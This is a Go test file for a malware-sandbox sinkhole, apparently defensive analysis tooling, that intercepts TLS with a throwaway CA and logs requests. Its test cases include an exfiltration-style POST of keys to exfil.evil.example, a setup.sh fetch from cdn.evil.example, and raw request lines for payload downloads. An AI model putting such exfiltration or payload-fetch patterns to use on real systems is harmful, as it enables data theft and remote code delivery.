package sandbox

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// tlsSinkhole starts a sinkhole on one free loopback port that terminates TLS
// with a fresh interception CA.
func tlsSinkhole(t *testing.T) (*sinkhole, *interceptCA, string) {
	t.Helper()
	ca, err := newInterceptCA(time.Now())
	if err != nil {
		t.Fatal(err)
	}
	s := newSinkhole("127.0.0.1")
	s.DNSPort, s.TCPPorts, s.IdleTime = 0, []int{0}, 500*time.Millisecond
	s.TLS, s.Stage2 = ca.serverConfig(), "oa-stage2-test"
	_, tcp, err := s.Open()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Close)
	return s, ca, tcp[0]
}

// clientTo returns an HTTP client that sends every connection to addr and
// trusts roots (nil: the host's roots, which do not hold the run's CA).
func clientTo(addr string, roots *x509.CertPool) *http.Client {
	return &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, network, addr)
		},
		TLSClientConfig:   &tls.Config{RootCAs: roots},
		ForceAttemptHTTP2: true, // the sinkhole must still get HTTP/1.1
	}}
}

func TestSinkholeInterceptsTLS(t *testing.T) {
	s, ca, addr := tlsSinkhole(t)
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(ca.pem) {
		t.Fatal("CA PEM does not parse")
	}
	body := "keys=" + strings.Repeat("k", 100)
	resp, err := clientTo(addr, roots).Post("https://exfil.evil.example/collect", "text/plain", strings.NewReader(body))
	if err != nil {
		t.Fatalf("https POST through the interception CA: %v", err)
	}
	got, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || string(got) != "{}" {
		t.Fatalf("answer to a POST: %d %q, want 200 {}", resp.StatusCode, got)
	}
	if resp.TLS == nil || resp.TLS.PeerCertificates[0].Subject.CommonName != "exfil.evil.example" {
		t.Fatalf("leaf: got %+v, want one for exfil.evil.example", resp.TLS)
	}
	resp, err = clientTo(addr, roots).Get("https://cdn.evil.example/setup.sh")
	if err != nil {
		t.Fatal(err)
	}
	got, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(got), "/bin/true oa-stage2-test") {
		t.Fatalf("answer to a download: %q, want the stand-in second stage", got)
	}
	s.Close()
	_, reqs, _ := s.Results()
	if len(reqs) != 2 {
		t.Fatalf("requests: got %d, want 2: %+v", len(reqs), reqs)
	}
	r := reqs[0]
	if !r.TLS || r.Line != "POST /collect HTTP/1.1" || r.Host != "exfil.evil.example" || !bytes.HasSuffix(r.Raw, []byte(body)) {
		t.Fatalf("recorded: %+v raw %q", r, r.Raw)
	}
}

// A client that does not trust the run's CA (certificate pinning, its own
// bundle) refuses the handshake: its ClientHello and SNI are still recorded.
func TestSinkholeTLSRefused(t *testing.T) {
	s, _, addr := tlsSinkhole(t)
	_, err := clientTo(addr, x509.NewCertPool()).Get("https://pinned.evil.example/")
	if err == nil {
		t.Fatal("a client with other roots accepted the interception leaf")
	}
	s.Close()
	_, reqs, _ := s.Results()
	if len(reqs) != 1 || reqs[0].TLS || reqs[0].Line != "TLS ClientHello" || reqs[0].Host != "pinned.evil.example" {
		t.Fatalf("recorded: %+v", reqs)
	}
}

func TestInterceptLeaf(t *testing.T) {
	ca, err := newInterceptCA(time.Now())
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AddCert(ca.cert)
	for _, tt := range []struct{ sni, verifyAs string }{
		{"api.example.com", "api.example.com"},
		{"API.Example.com.", "api.example.com"},
		{"", "localhost"},
		{"203.0.113.7", "203.0.113.7"},
		{"bad name/with*chars", "localhost"},
	} {
		c, err := ca.leaf(tt.sni)
		if err != nil {
			t.Fatalf("%q: %v", tt.sni, err)
		}
		leaf, err := x509.ParseCertificate(c.Certificate[0])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := leaf.Verify(x509.VerifyOptions{DNSName: tt.verifyAs, Roots: roots}); err != nil {
			t.Errorf("%q: leaf does not verify as %q: %v", tt.sni, tt.verifyAs, err)
		}
		if leaf.IsCA {
			t.Errorf("%q: leaf is a CA", tt.sni)
		}
	}
	again, _ := ca.leaf("api.example.com")
	first, _ := ca.leaf("API.EXAMPLE.COM")
	if again != first {
		t.Error("leaves are not cached per normalised name")
	}
	// The cache is bounded: past maxLeaves every new name gets the fallback.
	for i := range maxLeaves + 10 {
		if _, err := ca.leaf(fmt.Sprintf("h%d.example", i)); err != nil {
			t.Fatal(err)
		}
	}
	if n := len(ca.leaves); n > maxLeaves+1 {
		t.Errorf("leaf cache holds %d, want at most %d", n, maxLeaves+1)
	}
	if !ca.cert.IsCA || !ca.cert.MaxPathLenZero || ca.cert.NotAfter.Sub(time.Now()) > 3*time.Hour {
		t.Errorf("CA: IsCA %v MaxPathLenZero %v NotAfter %v: want a path-length-0 CA valid for hours", ca.cert.IsCA, ca.cert.MaxPathLenZero, ca.cert.NotAfter)
	}
}

func TestWantsJSON(t *testing.T) {
	for _, tt := range []struct {
		req  string
		want bool
	}{
		{"GET /6x8c0trkp4l9uugo HTTP/1.1\r\nHost: 91.92.242.30\r\nAccept: */*\r\n\r\n", false},
		{"GET /stage2.sh HTTP/1.1\r\nHost: cdn.example\r\n\r\n", false},
		{"GET /install HTTP/1.1\r\nUser-Agent: curl/8\r\n\r\n", false},
		{"GET /v1/forecast?latitude=1 HTTP/1.1\r\nAccept: */*\r\n\r\n", true},
		{"GET /v2/markets HTTP/1.1\r\n\r\n", true},
		{"GET /data.JSON HTTP/1.1\r\n\r\n", true},
		{"GET /api/users HTTP/1.1\r\n\r\n", true},
		{"GET /x HTTP/1.1\r\nAccept: application/json\r\n\r\n", true},
		{"POST /collect HTTP/1.1\r\nContent-Length: 2\r\n\r\nhi", true},
		{"GET http://proxy.example/api/x HTTP/1.1\r\n\r\n", true},
		{"GET /video.mp4 HTTP/1.1\r\n\r\n", false},
		{"GET /install.sh?v=2 HTTP/1.1\r\nAccept: */*\r\n\r\n", false},
		{"GET /api/v1/agent.py?os=linux HTTP/1.1\r\n\r\n", false},
		{"GET /v2/tool.exe HTTP/1.1\r\n\r\n", false},
		{"GET /install.sh HTTP/1.1\r\nAccept: application/json\r\n\r\n", false}, // cannot opt out of the stage
		{"GET /setup?id=1 HTTP/1.1\r\n\r\n", false},                             // a query alone is no API call
	} {
		if got := wantsJSON([]byte(tt.req)); got != tt.want {
			t.Errorf("wantsJSON(%q) = %v, want %v", tt.req, got, tt.want)
		}
	}
}

// The sinkhole holds at most maxActive connections: more are closed at
// accept, and a closed connection leaves nothing behind.
func TestSinkholeConnectionCap(t *testing.T) {
	s := newSinkhole("127.0.0.1")
	s.DNSPort, s.TCPPorts, s.IdleTime = 0, []int{0}, 3*time.Second
	_, tcp, err := s.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	var conns []net.Conn
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	for range maxActive + 20 {
		c, err := net.Dial("tcp", tcp[0])
		if err != nil {
			t.Fatal(err)
		}
		conns = append(conns, c)
	}
	// The extra ones are closed by the sinkhole: reading them ends at once.
	closedByServer := 0
	for _, c := range conns[maxActive:] {
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		if _, err := c.Read(make([]byte, 1)); err == io.EOF {
			closedByServer++
		}
	}
	s.mu.Lock()
	active, dropped := len(s.active), s.dropped["connection"]
	s.mu.Unlock()
	if active > maxActive || closedByServer < 20 || dropped < 20 {
		t.Errorf("active %d (max %d), closed at accept %d of 20, counted as dropped %d", active, maxActive, closedByServer, dropped)
	}
	for _, c := range conns {
		c.Close()
	}
	conns = nil
	for range 100 {
		s.mu.Lock()
		active = len(s.active)
		s.mu.Unlock()
		if active == 0 {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Errorf("%d connections still held after the clients closed them", active)
}
